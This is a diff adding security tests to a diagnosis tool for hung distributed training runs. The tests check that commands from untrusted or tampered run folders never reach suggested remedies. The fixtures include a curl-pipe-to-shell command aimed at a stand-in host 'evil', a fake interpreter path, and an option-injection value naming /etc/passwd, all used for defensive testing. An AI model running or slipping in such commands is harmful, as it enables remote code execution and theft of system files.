@@ -2,12 +2,20 @@
 
 from __future__ import annotations
 
+import os
+import re
+import tarfile
+
 import pytest
 
 from unhang.diagnosis import retyped
 from unhang.diagnosis.retyped import Typed, again, told
+from unhang.diagnosis.why import judge, judge_packed
 from unhang.knowledge.causes import launcher_wrong_env
 from unhang.model import Finding, Remedy, Verdict
+from unhang.records.incident import Raised
+from unhang.records.logs.finding import find
+from unhang.records.packed import folder, unpack
 from unhang.records.rundir import RunDir
 
 TYPED = {"options": ["-n", "8", "--set", "p2p=off", "--set", "backend=nccl", "--hang-after", "60"], "command": ["train.py", "--lr", "1e-4", "a b"]}
@@ -84,6 +92,60 @@ def test_the_environment_of_a_run_is_named_where_torch_was_seen_in_it(rundir, to
     assert found is not None
     assert found.remedies[0].command == f"{python} -m torch.distributed.run --nproc-per-node auto train.py"
     assert found.remedies[0].verify.startswith(f"{python} -m torch.distributed.run --standalone")
+
+
+EVIL = {"options": ["--python", "/tmp/evil/python"], "command": ["bash", "-c", "curl http://evil/x|sh"]}
+
+
+def not_ours(run, how):
+    if how == "of nobody":
+        os.chown(run.path, 65534, 65534)
+    elif how == "run.json of nobody":
+        os.chown(run.run, 65534, 65534)
+    elif how == "anybody may write":
+        run.path.chmod(0o777)
+    elif how == "anybody may write run.json":
+        run.run.chmod(0o666)
+    elif how == "dash":
+        run.write(run.run, {"schema": "unhang/run/1", "typed": {"command": ["-oProxyCommand=x", "--report", "/etc/passwd"]}})
+
+
+OTHERS = pytest.mark.parametrize("how", [
+    *(pytest.param(how, marks=pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")) for how in ("of nobody", "run.json of nobody")),
+    "anybody may write", "anybody may write run.json", "archive", "own",
+])  # fmt: skip
+
+
+@OTHERS
+def test_a_stranger_puts_no_word_into_a_command(tmp_path, build, lab, how):
+    """The command, its options, its Python, and processes that a signal is to be sent to."""
+    raised = Raised(at_s=30.0, type="RuntimeError", text="Distributed package doesn't have NCCL built in", frames=())
+    stopped = build().rank(0, enqueued=13, completed=12).rank(1, enqueued=12, activity=lab.STOPPED, answered=False).write()
+    texts = []
+    for run in (build().rank(0, raised=raised).rank(1, raised=raised).write("failure"), stopped):
+        run.write(run.run, {"schema": "unhang/run/1", "typed": EVIL, "python": "/tmp/evil/python", "torch": "2"})
+        not_ours(run, how)
+        if how == "archive":
+            with tarfile.open(tmp_path / f"{run.path.name}.tgz", "w:gz") as tar:
+                tar.add(run.path, "runs/1")
+            (source,) = find([str(tmp_path / f"{run.path.name}.tgz")]).sources
+            with folder() as into:
+                found = judge_packed(unpack(source, "runs", into), "run.tgz")
+        else:
+            found = judge(RunDir.open(run.path))
+        texts += [text for f in found.findings for r in f.remedies for text in (r.command, r.verify) if text]
+    remedy = launcher_wrong_env.CAUSE.remedy("through-the-interpreter")
+    finding = Finding(cause="launcher-wrong-env", standing="likely", says="", remedies=(remedy,))
+    (through,) = told(Verdict(primary=finding), RunDir(run.path, is_trusted=False) if how == "archive" else RunDir(run.path)).findings[0].remedies
+    told_in = "\n".join([*texts, through.command])
+    parts = ("evil/x", r"^/tmp/evil/python -m", r"kill -CONT \d", r"^unhang run .*COMMAND")
+    seen = [re.search(part, told_in, re.MULTILINE) is not None for part in parts]
+    assert seen == ([True, True, True, False] if how == "own" else [False, False, False, True]), told_in
+
+
+def test_no_command_begins_with_an_option(rundir):
+    not_ours(rundir, "dash")
+    assert again(["--set", "shm=off"], retyped.of(rundir)) == "unhang run --set shm=off COMMAND"
 
 
 def test_its_remedies_need_neither_a_gpu_nor_slurm():
